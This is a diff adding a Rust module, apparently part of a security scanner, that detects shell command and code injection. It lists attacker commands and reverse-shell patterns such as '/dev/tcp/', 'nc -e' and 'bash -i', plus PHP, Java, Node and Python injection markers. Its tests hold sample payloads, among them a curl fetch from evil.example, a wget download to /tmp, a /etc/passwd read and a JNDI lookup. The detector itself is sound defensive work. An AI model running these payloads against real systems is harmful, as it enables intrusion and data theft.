@@ -1,0 +1,551 @@
+//! Shell command injection (`; id`, `| whoami`, `$(curl ...)`, `${IFS}`) and code injection
+//! (PHP, Java, Node.js and Python payloads, deserialization gadgets, Log4Shell lookups).
+//!
+//! A command counts when a shell separator or substitution is followed by a known command,
+//! and the command is followed by what a shell would take as its arguments (an option, a
+//! path, a variable, a redirection, another separator, or nothing): `; ls -la /` is an
+//! attack, "salt & pepper; find your style" is prose.
+
+use super::{Finding, Severity, ThreatType};
+
+/// Commands attackers run to prove, explore, fetch or persist (lowercase).
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "ping",
+    "nc",
+    "ncat",
+    "netcat",
+    "wget",
+    "curl",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "php",
+    "ruby",
+    "lua",
+    "node",
+    "nslookup",
+    "dig",
+    "host",
+    "telnet",
+    "ssh",
+    "scp",
+    "ftp",
+    "tftp",
+    "chmod",
+    "chown",
+    "rm",
+    "cat",
+    "tac",
+    "ls",
+    "dir",
+    "type",
+    "echo",
+    "sleep",
+    "timeout",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "net",
+    "hostname",
+    "passwd",
+    "useradd",
+    "crontab",
+    "kill",
+    "killall",
+    "ps",
+    "env",
+    "printenv",
+    "base64",
+    "xxd",
+    "awk",
+    "gawk",
+    "sed",
+    "find",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "tar",
+    "nohup",
+    "exec",
+    "eval",
+    "sudo",
+    "su",
+    "mkfifo",
+    "nmap",
+    "certutil",
+    "bitsadmin",
+    "reg",
+    "wmic",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "copy",
+    "del",
+    "xcopy",
+    "touch",
+    "cp",
+    "mv",
+    "grep",
+    "printf",
+    "pwd",
+    "w",
+    "who",
+    "last",
+    "lsof",
+    "uptime",
+    "sort",
+    "od",
+    "nl",
+    "rev",
+    "dd",
+    "openssl",
+    "socat",
+    "busybox",
+    "expr",
+    "getent",
+    "ver",
+    "vol",
+    "set",
+    "export",
+    "unset",
+    "history",
+    "shutdown",
+    "reboot",
+    "ex",
+    "vi",
+    "vim",
+    "nano",
+    "ansible",
+    "docker",
+    "kubectl",
+    "mail",
+    "sendmail",
+    "chattr",
+    "chpasswd",
+    "mount",
+    "iptables",
+    "arp",
+    "route",
+    "traceroute",
+    "tracert",
+    "whois",
+];
+
+/// Commands common as English words: they need shell-looking arguments to count.
+const WORDY: &[&str] = &[
+    "cat", "find", "type", "echo", "host", "net", "set", "head", "tail", "more", "less", "sort",
+    "copy", "del", "touch", "kill", "last", "w", "who", "sleep", "timeout", "mail", "ex", "rev",
+    "dir", "export", "history", "mount", "route", "ver", "vol", "su", "ps", "env",
+];
+
+fn command_at(lower: &str, i: usize) -> Option<(&str, usize)> {
+    let b = lower.as_bytes();
+    let mut j = i;
+    // Quotes and braces may wrap the command: `;"id"`, `{cat,/etc/passwd}`.
+    while j < b.len() && matches!(b[j], b'"' | b'\'' | b'{' | b'\\') {
+        j += 1;
+    }
+    let start = j;
+    while j < b.len()
+        && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'.' | b'_' | b'-' | b'/' | b'\\'))
+    {
+        j += 1;
+    }
+    let mut word = &lower[start..j];
+    // A literal escape after the command (`id\n` as typed into a payload list) is not part
+    // of its name.
+    for escape in ["\\n", "\\r", "\\t", "\\"] {
+        if let Some(w) = word.strip_suffix(escape) {
+            word = w;
+            break;
+        }
+    }
+    // `/usr/bin/id` is `id`.
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let name = name.trim_matches(['"', '\'', '\\']);
+    COMMANDS.contains(&name).then_some((name, j))
+}
+
+/// What follows a command: 2 for shell-looking arguments or nothing, 1 for words, 0 else.
+fn shell_arguments(lower: &str, j: usize) -> u8 {
+    let rest = &lower[j..];
+    let trimmed = rest.trim_start_matches([' ', '\t', '"', '\'', '}']);
+    if trimmed.is_empty() {
+        return 2;
+    }
+    let first = trimmed.as_bytes()[0];
+    if rest.starts_with([',', '$']) {
+        // `{cat,/etc/passwd}`, `cat$IFS/etc/passwd`.
+        return 2;
+    }
+    if !rest.starts_with([' ', '\t', '"', '\'', '}']) {
+        return 0;
+    }
+    match first {
+        b'-'
+        | b'/'
+        | b'.'
+        | b'$'
+        | b'~'
+        | b'%'
+        | b'\\'
+        | b'>'
+        | b'<'
+        | b'|'
+        | b';'
+        | b'&'
+        | b'`'
+        | b'*'
+        | b'0'..=b'9'
+        | b'\n'
+        | b'#' => 2,
+        b'a'..=b'z' => 1,
+        _ => 0,
+    }
+}
+
+/// Looks for shell command injection in a decoded, lowercased value.
+pub fn detect(lower: &str, out: &mut Vec<Finding>) {
+    let b = lower.as_bytes();
+    let mut best: Option<Finding> = None;
+    let mut keep = |f: Finding| {
+        if best
+            .as_ref()
+            .is_none_or(|x| (f.severity, f.confidence) > (x.severity, x.confidence))
+        {
+            best = Some(f);
+        }
+    };
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let sep_len = match c {
+            b';' | b'\n' | b'`' => 1,
+            b'|' | b'&' => {
+                if b.get(i + 1) == Some(&c) {
+                    2
+                } else {
+                    1
+                }
+            }
+            b'$' if matches!(b.get(i + 1), Some(b'(')) => 2,
+            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => 2,
+            b'{' => 1,
+            _ => 0,
+        };
+        if sep_len == 0 {
+            i += 1;
+            continue;
+        }
+        let mut j = i + sep_len;
+        while j < b.len() && matches!(b[j], b' ' | b'\t' | b'\r') {
+            j += 1;
+        }
+        if let Some((name, end)) = command_at(lower, j) {
+            let args = shell_arguments(lower, end);
+            let wordy = WORDY.contains(&name);
+            // Backticks are Markdown's code spans too: they count when nothing precedes
+            // them but a breakout.
+            let markdown = c == b'`'
+                && i > 0
+                && !matches!(b[i - 1], b'=' | b'"' | b'\'' | b';' | b'|' | b'&' | b'(');
+            // Brace expansion counts only in its own shape: `{cat,/etc/passwd}`.
+            let brace_ok = c != b'{' || lower[end..].starts_with(',');
+            let finding = match (args, wordy, markdown || !brace_ok) {
+                (_, _, true) => None,
+                (2, _, _) => Some((Severity::High, 0.85)),
+                (1, false, _) => Some((Severity::High, 0.7)),
+                (1, true, _) => Some((Severity::Medium, 0.45)),
+                _ => None,
+            };
+            if let Some((severity, confidence)) = finding {
+                keep(Finding::new(
+                    ThreatType::CommandInjection,
+                    severity,
+                    confidence,
+                    i,
+                    end,
+                ));
+            }
+        }
+        i += sep_len;
+    }
+    // Shell tricks that only attackers write.
+    for (needle, severity) in [
+        ("${ifs}", Severity::High),
+        ("$ifs$", Severity::High),
+        (":(){", Severity::High),
+        ("/dev/tcp/", Severity::Critical),
+        ("%comspec%", Severity::High),
+        ("%systemroot%", Severity::Medium),
+        ("cmd /c", Severity::High),
+        ("cmd.exe /c", Severity::High),
+        ("powershell -e", Severity::High),
+        ("powershell -nop", Severity::High),
+        ("powershell.exe -", Severity::High),
+        ("iex(", Severity::High),
+        ("invoke-expression", Severity::High),
+        ("downloadstring(", Severity::High),
+        ("certutil -urlcache", Severity::High),
+        ("bash -i", Severity::High),
+        ("nc -e", Severity::High),
+        ("mkfifo /tmp", Severity::High),
+        ("/bin/sh", Severity::Medium),
+        ("/bin/bash", Severity::Medium),
+    ] {
+        if let Some(p) = lower.find(needle) {
+            keep(Finding::new(
+                ThreatType::CommandInjection,
+                severity,
+                0.8,
+                p,
+                p + needle.len(),
+            ));
+        }
+    }
+    // `$(...)` and `` `...` `` with any word inside, at the start or after a breakout.
+    for open in ["$(", "`"] {
+        if let Some(p) = lower.find(open) {
+            let before = lower[..p].trim_end();
+            let breakout =
+                before.is_empty() || before.ends_with(['=', '"', '\'', ';', '|', '&', '(']);
+            let inner = &lower[p + open.len()..];
+            let close = if open == "$(" { ')' } else { '`' };
+            if let Some(e) = inner.find(close) {
+                let word = inner[..e].trim();
+                if breakout
+                    && !word.is_empty()
+                    && word.len() < 80
+                    && word
+                        .bytes()
+                        .next()
+                        .is_some_and(|c| c.is_ascii_alphabetic() || c == b'/')
+                {
+                    keep(Finding::new(
+                        ThreatType::CommandInjection,
+                        Severity::High,
+                        0.75,
+                        p,
+                        p + open.len() + e + 1,
+                    ));
+                }
+            }
+        }
+    }
+    if let Some(f) = best {
+        out.push(f);
+    }
+}
+
+/// Code a server-side interpreter would run, by language.
+const CODE: &[(&str, Severity, f32)] = &[
+    // PHP
+    ("<?php", Severity::High, 0.85),
+    ("<?=", Severity::High, 0.8),
+    ("phpinfo()", Severity::High, 0.9),
+    ("shell_exec(", Severity::High, 0.85),
+    ("passthru(", Severity::High, 0.85),
+    ("proc_open(", Severity::High, 0.85),
+    ("pcntl_exec(", Severity::High, 0.9),
+    ("popen(", Severity::Medium, 0.6),
+    ("system(", Severity::Medium, 0.5),
+    ("exec(", Severity::Medium, 0.4),
+    ("assert(", Severity::Medium, 0.4),
+    ("create_function(", Severity::High, 0.8),
+    ("call_user_func", Severity::Medium, 0.6),
+    ("base64_decode(", Severity::Medium, 0.6),
+    ("gzinflate(", Severity::High, 0.75),
+    ("str_rot13(", Severity::Medium, 0.6),
+    ("file_put_contents(", Severity::High, 0.7),
+    ("file_get_contents(", Severity::Medium, 0.6),
+    ("move_uploaded_file(", Severity::High, 0.7),
+    ("$_get[", Severity::Medium, 0.6),
+    ("$_post[", Severity::Medium, 0.6),
+    ("$_request[", Severity::Medium, 0.6),
+    ("$_server[", Severity::Medium, 0.6),
+    ("$_cookie[", Severity::Medium, 0.6),
+    ("$_files[", Severity::Medium, 0.6),
+    ("$globals[", Severity::Medium, 0.6),
+    ("allow_url_include", Severity::High, 0.8),
+    ("auto_prepend_file", Severity::High, 0.8),
+    ("o:8:\"stdclass\"", Severity::High, 0.8),
+    // Java
+    ("java.lang.runtime", Severity::High, 0.9),
+    ("runtime.getruntime(", Severity::Critical, 0.9),
+    ("getruntime().exec", Severity::Critical, 0.9),
+    ("java.lang.processbuilder", Severity::High, 0.9),
+    ("processbuilder(", Severity::High, 0.8),
+    ("java.lang.system", Severity::Medium, 0.6),
+    ("java.io.file", Severity::Medium, 0.6),
+    ("java.net.url", Severity::Medium, 0.5),
+    ("java.lang.reflect", Severity::High, 0.75),
+    ("javax.script", Severity::High, 0.8),
+    ("class.forname(", Severity::High, 0.8),
+    ("classloader", Severity::Medium, 0.6),
+    ("#_memberaccess", Severity::Critical, 0.95),
+    ("@java.lang", Severity::High, 0.85),
+    ("%{(#", Severity::Critical, 0.9),
+    ("${jndi:", Severity::Critical, 0.95),
+    ("class.module.classloader", Severity::Critical, 0.95),
+    ("org.apache.commons.collections", Severity::High, 0.85),
+    ("invokertransformer", Severity::High, 0.9),
+    ("com.sun.org.apache", Severity::High, 0.85),
+    ("xwork.methodaccessor", Severity::Critical, 0.9),
+    ("java.beans.xmldecoder", Severity::High, 0.85),
+    ("<java.", Severity::High, 0.7),
+    // Node.js and JavaScript on the server
+    ("child_process", Severity::High, 0.9),
+    ("process.mainmodule", Severity::Critical, 0.9),
+    ("require('child", Severity::Critical, 0.9),
+    ("process.binding(", Severity::High, 0.85),
+    ("__proto__", Severity::High, 0.7),
+    ("constructor.prototype", Severity::High, 0.75),
+    ("constructor[", Severity::Medium, 0.6),
+    ("global.process", Severity::High, 0.8),
+    ("process.env", Severity::Medium, 0.5),
+    ("new function(", Severity::Medium, 0.6),
+    ("while(!", Severity::Medium, 0.5),
+    ("_$$nd_func$$_", Severity::Critical, 0.95),
+    // Python
+    ("__import__(", Severity::High, 0.85),
+    ("os.system(", Severity::High, 0.8),
+    ("os.popen(", Severity::High, 0.8),
+    ("subprocess.", Severity::High, 0.7),
+    ("pickle.loads", Severity::High, 0.75),
+    ("__builtins__", Severity::High, 0.8),
+    ("__globals__", Severity::High, 0.8),
+    ("__subclasses__", Severity::High, 0.85),
+    ("cos\nsystem", Severity::High, 0.85),
+];
+
+/// Looks for code injection. `text` keeps its case for case-sensitive markers (serialized
+/// Java objects start `rO0AB` in base64).
+pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
+    let mut best: Option<Finding> = None;
+    let mut signs = 0;
+    for (needle, severity, confidence) in CODE {
+        if let Some(p) = lower.find(needle) {
+            signs += 1;
+            let f = Finding::new(
+                ThreatType::CodeInjection,
+                *severity,
+                *confidence,
+                p,
+                p + needle.len(),
+            );
+            if best
+                .as_ref()
+                .is_none_or(|x| (f.severity, f.confidence) > (x.severity, x.confidence))
+            {
+                best = Some(f);
+            }
+        }
+    }
+    for magic in ["rO0AB", "aced0005", "H4sIAAAAAAAA"] {
+        if let Some(p) = text.find(magic) {
+            let severity = if magic == "H4sIAAAAAAAA" {
+                Severity::Medium
+            } else {
+                Severity::High
+            };
+            best = Some(Finding::new(
+                ThreatType::CodeInjection,
+                severity,
+                0.85,
+                p,
+                p + magic.len(),
+            ));
+            signs += 1;
+        }
+    }
+    if let Some(mut f) = best {
+        // Several code markers in one value: code, and somewhere it should not be.
+        if f.severity == Severity::Medium && signs >= 3 {
+            f.severity = Severity::High;
+            f.confidence = 0.7;
+        }
+        out.push(f);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn severity(text: &str) -> Option<Severity> {
+        let lower = text.to_ascii_lowercase();
+        let mut out = Vec::new();
+        detect(&lower, &mut out);
+        detect_code(text, &lower, &mut out);
+        out.iter().map(|f| f.severity).max()
+    }
+
+    #[test]
+    fn injected_commands() {
+        for attack in [
+            "; id",
+            "| whoami",
+            "& ping -c 10 127.0.0.1",
+            "; ls -l /var/www/*",
+            "| dir",
+            "';/usr/bin/id\\n",
+            "`cat /etc/passwd`",
+            "$(curl http://evil.example/x.sh)",
+            "& type %SYSTEMROOT%\\repair\\SAM",
+            "&& wget http://1.2.3.4/a -O /tmp/a",
+            "cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            ";\"id\"",
+            "| phpinfo()",
+            "${jndi:ldap://evil.example/a}",
+            "require('child_process').exec('id')",
+            "__import__('os').system('id')",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+        ] {
+            assert!(
+                severity(attack).is_some_and(|s| s >= Severity::High),
+                "missed {attack:?}: {:?}",
+                severity(attack)
+            );
+        }
+    }
+
+    #[test]
+    fn prose_with_separators_is_not_a_command() {
+        for benign in [
+            "Tom & Jerry",
+            "salt & pepper; find your style",
+            "this | that",
+            "Run `ls -la` to list the files",
+            "I want you to act as a linux terminal. My first command is pwd",
+            "R&D; cat videos are popular",
+            "price: $(9.99)",
+            "fish & chips & peas",
+        ] {
+            assert!(
+                severity(benign).is_none_or(|s| s < Severity::High),
+                "false alarm on {benign:?}: {:?}",
+                severity(benign)
+            );
+        }
+    }
+}
